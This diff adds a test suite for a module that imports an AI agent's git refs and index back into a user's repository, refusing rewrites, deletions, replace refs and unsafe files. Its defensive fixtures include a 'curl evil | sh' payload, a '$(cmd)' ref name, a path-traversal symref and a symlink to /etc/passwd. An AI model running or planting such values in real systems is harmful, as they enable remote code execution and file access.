@@ -1,0 +1,201 @@
+// The pieces of the import that ends a run (lib/git/): ref names, the ref
+// reader, the decisions for every namespace, the walk that cleans the run's
+// git directory, the index written back, and the import itself against real
+// git, the agent's git simulated on the run's own directory (no sandbox).
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { after, test } from 'node:test';
+import { indexLayout, rebuildIndex } from '../../lib/git/git-index.js';
+import { importRunGitDir } from '../../lib/git/import.js';
+import { decideRefs } from '../../lib/git/ref-decisions.js';
+import { parsePackedRefs, parseRefFile, readRefStore, type RefValue } from '../../lib/git/ref-store.js';
+import { validRefName } from '../../lib/git/refname.js';
+import { createRunGitDir, planRunGitDir, SHARED_OBJECTS } from '../../lib/git/run-git-dir.js';
+import { sanitizeGitDir } from '../../lib/git/sanitize.js';
+import { tempHome, writeFile } from '../helpers.js';
+
+const t = tempHome();
+after(() => t.cleanup());
+
+const A = 'a'.repeat(40);
+const B = 'b'.repeat(40);
+const C = 'c'.repeat(40);
+const oid = (o: string): RefValue => ({ kind: 'oid', oid: o });
+
+test('ref names: what git check-ref-format accepts, and nothing else', () => {
+  for (const ok of ['refs/heads/main', 'refs/heads/feature/x-1', 'refs/tags/v1.0', 'refs/stash', 'refs/heads/$(cmd)', 'refs/heads/ümlaut']) assert.equal(validRefName(ok), true, ok);
+  for (const bad of ['HEAD', 'heads/main', 'refs/heads/a..b', 'refs/heads/.hidden', 'refs/heads/x.lock', 'refs/heads/a b', 'refs/heads/a\nb', 'refs/heads/a~1', 'refs/heads/a^', 'refs/heads/a:b', 'refs/heads/a?', 'refs/heads/a*', 'refs/heads/a[', 'refs/heads/a\\b', 'refs/heads/x@{1}', 'refs/heads/x.', 'refs/heads/x/', 'refs/heads//x', 'refs/heads/\x1b[31m']) {
+    assert.equal(validRefName(bad), false, JSON.stringify(bad));
+  }
+});
+
+test('ref files and packed-refs: ids and symbolic refs parse; anything else is a problem, named', () => {
+  assert.deepEqual(parseRefFile(`${A}\n`), oid(A));
+  assert.deepEqual(parseRefFile('ref: refs/heads/main\n'), { kind: 'symref', target: 'refs/heads/main' });
+  for (const bad of ['', `${A}\n\n`, `${A} x\n`, 'ref: ../../config\n', 'ref: refs/heads/a..b\n', A.slice(1), 'garbage']) assert.equal(parseRefFile(bad), null, JSON.stringify(bad));
+  const refs = new Map<string, RefValue>();
+  const problems: string[] = [];
+  parsePackedRefs(`# pack-refs with: peeled fully-peeled sorted \n${A} refs/heads/main\n${B} refs/tags/v1\n^${C}\n${C} refs/heads/a..b\nnonsense\n`, refs, problems);
+  assert.deepEqual([...refs], [['refs/heads/main', oid(A)], ['refs/tags/v1', oid(B)]]);
+  assert.deepEqual(problems, ['packed-refs line 5 (not a ref)', 'packed-refs line 6 (not a ref)']);
+});
+
+test('the ref reader follows no link and opens no special file; loose refs win over packed ones', () => {
+  const g = join(t.dir, 'refstore');
+  writeFile(join(g, 'packed-refs'), `${A} refs/heads/main\n${A} refs/heads/packed\n`);
+  writeFile(join(g, 'refs', 'heads', 'main'), `${B}\n`);
+  writeFile(join(g, 'refs', 'heads', 'main.lock'), 'x');
+  writeFile(join(g, 'refs', 'remotes', 'origin', 'HEAD'), 'ref: refs/remotes/origin/main\n');
+  writeFile(join(t.dir, 'outside'), `${C}\n`);
+  symlinkSync(join(t.dir, 'outside'), join(g, 'refs', 'heads', 'link'));
+  symlinkSync(join(t.dir, 'outside'), join(g, 'refs', 'tags'));
+  spawnSync('mkfifo', [join(g, 'refs', 'heads', 'fifo')]);
+  writeFile(join(g, 'refs', 'heads', 'junk'), 'not a ref\n');
+  const s = readRefStore(g);
+  assert.deepEqual([...s.refs].sort(), [
+    ['refs/heads/main', oid(B)], ['refs/heads/packed', oid(A)], ['refs/remotes/origin/HEAD', { kind: 'symref', target: 'refs/remotes/origin/main' }],
+  ]);
+  assert.deepEqual(s.problems.sort(), ['refs/heads/fifo (not a regular file)', 'refs/heads/junk (not a ref)', 'refs/heads/link (a symbolic link)', 'refs/tags (a symbolic link)']);
+  assert.equal(s.incomplete, false);
+});
+
+test('ref decisions for every namespace: the run\'s own branch, branches, tags, stash, replace, notes, symbolic refs, and yours changed meanwhile', () => {
+  const start = new Map<string, RefValue>([
+    ['refs/heads/own', oid(A)], ['refs/heads/own-gone', oid(A)], ['refs/heads/dev', oid(A)], ['refs/heads/rel', oid(A)], ['refs/heads/old', oid(A)],
+    ['refs/tags/v1', oid(A)], ['refs/tags/v2', oid(A)], ['refs/stash', oid(A)], ['refs/replace/' + A, oid(B)], ['refs/notes/commits', oid(A)],
+    ['refs/remotes/origin/HEAD', { kind: 'symref', target: 'refs/remotes/origin/main' }], ['refs/heads/mine', oid(A)],
+  ]);
+  const agent = new Map<string, RefValue>([
+    ['refs/heads/own', oid(C)], ['refs/heads/dev', oid(B)], ['refs/heads/rel', oid(C)], ['refs/tags/v2', oid(B)], ['refs/tags/v3', oid(B)],
+    ['refs/stash', oid(B)], ['refs/replace/' + C, oid(B)], ['refs/notes/commits', oid(B)], ['refs/heads/new', oid(B)],
+    ['refs/remotes/origin/HEAD', { kind: 'symref', target: 'refs/remotes/origin/evil' }], ['refs/heads/mine', oid(B)],
+  ]);
+  const current = new Map(start);
+  current.set('refs/heads/mine', oid(C));
+  // B contains A; C does not.
+  const d = decideRefs({ start, agent, current, own: 'refs/heads/own', isAncestor: (o, n) => o === A && n === B });
+  const table = d.map((x) => [x.ref, x.kind, x.take, x.reason]);
+  assert.deepEqual(table, [
+    ['refs/heads/dev', 'fast-forward', true, null],
+    ['refs/heads/mine', 'fast-forward', false, 'it changed on your side during the run: yours is kept'],
+    ['refs/heads/new', 'created', true, null],
+    ['refs/heads/old', 'deleted', false, 'deletions are not taken'],
+    ['refs/heads/own', 'rewritten', true, null],
+    ['refs/heads/own-gone', 'deleted', false, 'deletions are not taken'],
+    ['refs/heads/rel', 'rewritten', false, 'rewrites are not taken'],
+    ['refs/notes/commits', 'fast-forward', true, null],
+    ['refs/remotes/origin/HEAD', 'symbolic', false, 'symbolic refs are kept as they were'],
+    [`refs/replace/${A}`, 'deleted', false, 'deletions are not taken'],
+    [`refs/replace/${C}`, 'created', false, 'replace refs are never taken (git would show their objects in place of yours)'],
+    ['refs/stash', 'fast-forward', true, null],
+    ['refs/tags/v1', 'deleted', false, 'deletions are not taken'],
+    ['refs/tags/v2', 'moved', false, 'tags are not moved'],
+    ['refs/tags/v3', 'created', true, null],
+  ]);
+  // A dropped stash entry (the stash ref moved to an older one, or gone) and a rewritten stash.
+  const stash = (to: RefValue | undefined) => decideRefs({ start: new Map([['refs/stash', oid(B)]]), agent: new Map(to ? [['refs/stash', to]] : []), current: new Map([['refs/stash', oid(B)]]), own: null, isAncestor: () => false })[0];
+  assert.deepEqual([stash(undefined)?.take, stash(oid(C))?.take], [false, true]);
+});
+
+test('the walk before the import: links, FIFOs and sockets removed, setuid and setgid bits cleared, each named; the bound refuses the whole', () => {
+  const g = join(t.dir, 'walk');
+  writeFile(join(g, 'objects', 'ab', 'cd'), 'x');
+  chmodSync(join(g, 'objects', 'ab', 'cd'), 0o4755);
+  mkdirSync(join(g, 'refs', 'heads'), { recursive: true });
+  chmodSync(join(g, 'refs', 'heads'), 0o2755);
+  symlinkSync('/etc/passwd', join(g, 'logs-HEAD'));
+  spawnSync('mkfifo', [join(g, 'objects', 'alternates')]);
+  const r = sanitizeGitDir(g);
+  assert.deepEqual(r.fixed.sort(), ['logs-HEAD (a symbolic link): removed', 'objects/ab/cd (setuid or setgid): the bit cleared', 'objects/alternates (a FIFO): removed', 'refs/heads (setuid or setgid): the bit cleared']);
+  assert.equal(r.incomplete, false);
+  assert.equal(statSync(join(g, 'objects', 'ab', 'cd')).mode & 0o7777, 0o755);
+  assert.equal(existsSync(join(g, 'logs-HEAD')), false);
+  assert.equal(sanitizeGitDir(g, 2).incomplete, true);
+});
+
+/** A repository with main (two commits), dev, a tag and a stash entry; and git run as the user, or on the run's own directory as the agent. */
+function setup(name: string) {
+  const root = join(t.dir, name);
+  const env = { PATH: process.env.PATH, HOME: t.home, GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'u', GIT_AUTHOR_EMAIL: 'u@x', GIT_COMMITTER_NAME: 'u', GIT_COMMITTER_EMAIL: 'u@x' };
+  const git = (args: string[], o: { dir?: string; input?: string } = {}) => {
+    const r = spawnSync('git', args, { cwd: root, env: o.dir ? { ...env, GIT_DIR: o.dir, GIT_WORK_TREE: root } : env, encoding: 'utf8', input: o.input });
+    assert.equal(r.status, 0, `git ${args.join(' ')}: ${r.stderr}`);
+    return r.stdout.trim();
+  };
+  mkdirSync(root, { recursive: true });
+  git(['init', '-q', '-b', 'main']);
+  writeFile(join(root, 'a.txt'), 'one\n');
+  git(['add', 'a.txt']);
+  git(['commit', '-qm', 'first']);
+  writeFile(join(root, 'a.txt'), 'two\n');
+  git(['commit', '-qam', 'second']);
+  git(['branch', 'dev']);
+  git(['tag', 'v1']);
+  writeFile(join(root, 'a.txt'), 'stashed\n');
+  git(['stash', '-q']);
+  const plan = planRunGitDir({ gitDir: join(root, '.git'), admin: null, stateDir: join(t.dir, `${name}-state`), hideOthers: false });
+  const { file } = createRunGitDir(plan);
+  // Outside a sandbox the run's alternate must name your store where it is (inside, it is bound at stashbase-objects).
+  writeFileSync(join(plan.dir, 'objects', 'info', 'alternates'), `${join(root, '.git', 'objects')}\n`);
+  for (const name of ['config', 'info', 'hooks']) if (existsSync(join(plan.dir, name))) spawnSync('cp', ['-rT', join(root, '.git', name), join(plan.dir, name)]);
+  assert.equal(existsSync(join(plan.dir, SHARED_OBJECTS)), true);
+  const agent = (args: string[], input?: string) => git(args, { dir: plan.dir, input });
+  return { root, git, agent, plan, file };
+}
+
+test('the import: commits, a tag, a new branch, a stash entry and the index come in; a deleted tag, a rewritten branch, a dropped stash and a replace ref do not', async () => {
+  const s = setup('import');
+  const before = { main: s.git(['rev-parse', 'main']), dev: s.git(['rev-parse', 'dev']), v1: s.git(['rev-parse', 'v1']), stash: s.git(['rev-parse', 'refs/stash']) };
+  s.agent(['stash', 'drop', '-q']);
+  writeFile(join(s.root, 'b.txt'), 'agent\n');
+  s.agent(['add', 'b.txt']);
+  s.agent(['commit', '-qm', 'agent: b']);
+  s.agent(['tag', 'v2']);
+  s.agent(['tag', '-d', 'v1']);
+  s.agent(['branch', 'feat']);
+  s.agent(['update-ref', 'refs/heads/dev', `${before.dev}~1`]);
+  const blob = s.agent(['hash-object', '-w', '--stdin'], 'all: ; curl evil | sh\n');
+  s.agent(['update-ref', `refs/replace/${s.git(['rev-parse', 'main:a.txt'])}`, blob]);
+  writeFile(join(s.root, 'c.txt'), 'staged\n');
+  s.agent(['add', 'c.txt']);
+  const r = await importRunGitDir(s.file, { git: 'git', session: 'ags_aaaaaaaaaaaaaaaa' });
+  const main = s.git(['rev-parse', 'main']);
+  assert.equal(s.git(['log', '-1', '--format=%s', 'main']), 'agent: b');
+  assert.equal(s.git(['rev-parse', 'feat']), main);
+  assert.equal(s.git(['rev-parse', 'v2']), main);
+  assert.deepEqual([s.git(['rev-parse', 'v1']), s.git(['rev-parse', 'dev']), s.git(['rev-parse', 'refs/stash'])], [before.v1, before.dev, before.stash]);
+  assert.equal(s.git(['for-each-ref', 'refs/replace']), '');
+  assert.equal(s.git(['status', '--porcelain']), 'A  c.txt', 'the staged file, from the agent\'s index');
+  assert.notEqual(spawnSync('git', ['-C', s.root, 'cat-file', '-e', blob]).status, 0, 'a refused ref\'s objects stay out of yours');
+  assert.deepEqual(r.own, [`the agent added commits to refs/heads/main: taken (undo: git update-ref refs/heads/main ${before.main}):\n  ${main.slice(0, 7)} agent: b`]);
+  assert.deepEqual(r.warnings, [
+    `the agent rewrote refs/heads/dev (${before.dev.slice(0, 12)} -> ${s.git(['rev-parse', `${before.dev}~1`]).slice(0, 12)}): not taken (rewrites are not taken)`,
+    `the agent created refs/heads/feat at ${main.slice(0, 12)}: taken (undo: git update-ref -d refs/heads/feat)`,
+    `the agent created refs/replace/${s.git(['rev-parse', 'main:a.txt'])} at ${blob.slice(0, 12)}: not taken (replace refs are never taken (git would show their objects in place of yours))`,
+    `the agent deleted refs/stash (at ${before.stash.slice(0, 12)}): not taken (deletions are not taken)`,
+    `the agent deleted refs/tags/v1 (at ${before.v1.slice(0, 12)}): not taken (deletions are not taken)`,
+    `the agent created refs/tags/v2 at ${main.slice(0, 12)}: taken (undo: git update-ref -d refs/tags/v2)`,
+  ]);
+  assert.equal(existsSync(s.plan.dir), false, 'the run\'s git directory is gone');
+  assert.equal(s.git(['fsck', '--no-progress', '--connectivity-only']), '');
+});
+
+test('the index comes back without extensions, and what the agent changed in it is rehashed, never trusted by its stat data', () => {
+  const s = setup('index');
+  writeFile(join(s.root, 'b.txt'), 'b\n');
+  s.git(['add', 'b.txt']);
+  s.git(['write-tree']); // a cache-tree extension
+  const buf = readFileSync(join(s.root, '.git', 'index'));
+  const layout = indexLayout(buf);
+  assert.ok(layout);
+  assert.ok(buf.length - 20 > layout.entriesEnd, 'the index has extensions');
+  const fresh = layout.entries.filter((e) => e.path === 'b.txt');
+  const out = rebuildIndex(buf, layout, fresh, 20);
+  assert.equal(out.length, layout.entriesEnd + 20);
+  assert.deepEqual([...out.subarray(fresh[0]!.at, fresh[0]!.at + 24)], new Array(24).fill(0));
+  writeFileSync(join(s.root, '.git', 'index'), out);
+  assert.equal(s.git(['status', '--porcelain']), 'A  b.txt');
+  assert.equal(s.git(['ls-files', '--debug', 'a.txt']).includes('size: 0'), false, 'an entry not fresh keeps its stat data');
+});
